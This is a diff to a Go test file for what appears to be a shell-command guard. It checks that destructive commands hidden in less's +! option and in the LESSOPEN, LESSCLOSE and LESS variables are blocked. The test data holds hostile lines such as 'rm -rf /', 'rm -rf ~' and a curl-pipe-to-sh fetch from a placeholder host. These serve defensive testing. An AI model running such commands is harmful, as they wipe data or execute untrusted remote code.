@@ -1,6 +1,10 @@
 package guard
 
-import "testing"
+import (
+	"testing"
+
+	"guardsh/guard/internal/rules"
+)
 
 // TestLessCommands checks the shell commands less runs from its command
 // line (+!cmd) and from LESSOPEN and LESSCLOSE, and the options that must
@@ -8,39 +12,39 @@ import "testing"
 func TestLessCommands(t *testing.T) {
 	B, H, M, S := Blocked, High, Medium, Safe
 	runNLLines(t, []nlLine{
-		{"less '+!rm -rf /' f", B, ruleRmRfRoot},
-		{"less +!rm\\ -rf\\ / f", B, ruleRmRfRoot},
-		{"less '++!rm -rf ~' f", B, ruleRmRfHome},
-		{"less '+G!rm -rf /' f", B, ruleRmRfRoot},
+		{"less '+!rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"less +!rm\\ -rf\\ / f", B, rules.RuleRmRfRoot},
+		{"less '++!rm -rf ~' f", B, rules.RuleRmRfHome},
+		{"less '+G!rm -rf /' f", B, rules.RuleRmRfRoot},
 		{"less '+10g!reboot' f", H, "shutdown"},
-		{"less '+|arm -rf /' f", B, ruleRmRfRoot},
-		{"less '+!rm -rf %' f", H, ruleRmRf},
-		{"less -R '+!rm -rf /usr' f", B, ruleRmRfSystemDir},
-		{"sudo less '+!rm -rf /' /var/log/syslog", B, ruleRmRfRoot},
-		{"more '+!rm -rf /' f", B, ruleRmRfRoot},
-		{"less '+!curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
-		{"less '+!rm f' f", M, ruleRm},
+		{"less '+|arm -rf /' f", B, rules.RuleRmRfRoot},
+		{"less '+!rm -rf %' f", H, rules.RuleRmRf},
+		{"less -R '+!rm -rf /usr' f", B, rules.RuleRmRfSystemDir},
+		{"sudo less '+!rm -rf /' /var/log/syslog", B, rules.RuleRmRfRoot},
+		{"more '+!rm -rf /' f", B, rules.RuleRmRfRoot},
+		{"less '+!curl -s https://x.example/i.sh | sh' f", H, rules.RuleCurlPipeSh},
+		{"less '+!rm f' f", M, rules.RuleRm},
 		{"less '+!ls -la' f", S, ""},
 		{"less +!date f", S, ""},
 		{"less '+!' f", S, ""},
 		// LESSOPEN and LESSCLOSE hold commands.
-		{"LESSOPEN='|rm -rf / %s' less f", B, ruleRmRfRoot},
-		{"LESSOPEN='||rm -rf ~ %s' less f", B, ruleRmRfHome},
-		{"LESSOPEN='|-rm -rf / %s' less f", B, ruleRmRfRoot},
-		{"LESSOPEN='rm -rf / %s' less f", B, ruleRmRfRoot},
-		{"LESSCLOSE='rm -rf / %s %s' less f", B, ruleRmRfRoot},
-		{"env LESSOPEN='|rm -rf /usr %s' less f", B, ruleRmRfSystemDir},
-		{"LESSOPEN='|rm -rf %s' less f", H, ruleRmRf},
-		{"LESSOPEN='|rm -rf / %s' git log", B, ruleRmRfRoot},
+		{"LESSOPEN='|rm -rf / %s' less f", B, rules.RuleRmRfRoot},
+		{"LESSOPEN='||rm -rf ~ %s' less f", B, rules.RuleRmRfHome},
+		{"LESSOPEN='|-rm -rf / %s' less f", B, rules.RuleRmRfRoot},
+		{"LESSOPEN='rm -rf / %s' less f", B, rules.RuleRmRfRoot},
+		{"LESSCLOSE='rm -rf / %s %s' less f", B, rules.RuleRmRfRoot},
+		{"env LESSOPEN='|rm -rf /usr %s' less f", B, rules.RuleRmRfSystemDir},
+		{"LESSOPEN='|rm -rf %s' less f", H, rules.RuleRmRf},
+		{"LESSOPEN='|rm -rf / %s' git log", B, rules.RuleRmRfRoot},
 		{"LESSOPEN='| /usr/bin/lesspipe %s' less f", S, ""},
 		{"LESSOPEN='|lesspipe.sh %s' less archive.tar.gz", S, ""},
 		{"LESSCLOSE='/usr/bin/lesspipe %s %s' less f", S, ""},
 		{"LESS=-R less f", S, ""},
 		// LESS holds options, +cmd among them.
-		{"LESS='+!rm -rf /' less f", B, ruleRmRfRoot},
-		{"LESS='-R +!rm -rf ~' less f", B, ruleRmRfHome},
-		{"LESS='-R+!rm -rf /$' less f", B, ruleRmRfRoot},
-		{"env LESS='+|m rm -rf /' less f", B, ruleRmRfRoot},
+		{"LESS='+!rm -rf /' less f", B, rules.RuleRmRfRoot},
+		{"LESS='-R +!rm -rf ~' less f", B, rules.RuleRmRfHome},
+		{"LESS='-R+!rm -rf /$' less f", B, rules.RuleRmRfRoot},
+		{"env LESS='+|m rm -rf /' less f", B, rules.RuleRmRfRoot},
 		{"LESS='-R +G' less f", S, ""},
 		{"LESS='-FRX' less f", S, ""},
 		{"LESS='-+F +/a!b' less f", S, ""},
@@ -88,7 +92,7 @@ func TestLessShellCommand(t *testing.T) {
 		{"+", "", false},
 		{"+!rm %", "rm " + Unknown, true},
 	} {
-		cmd, ok := lessShellCommand(tt.opt)
+		cmd, ok := rules.LessShellCommand(tt.opt)
 		if cmd != tt.cmd || ok != tt.ok {
 			t.Errorf("lessShellCommand(%q) = %q, %v; want %q, %v", tt.opt, cmd, ok, tt.cmd, tt.ok)
 		}
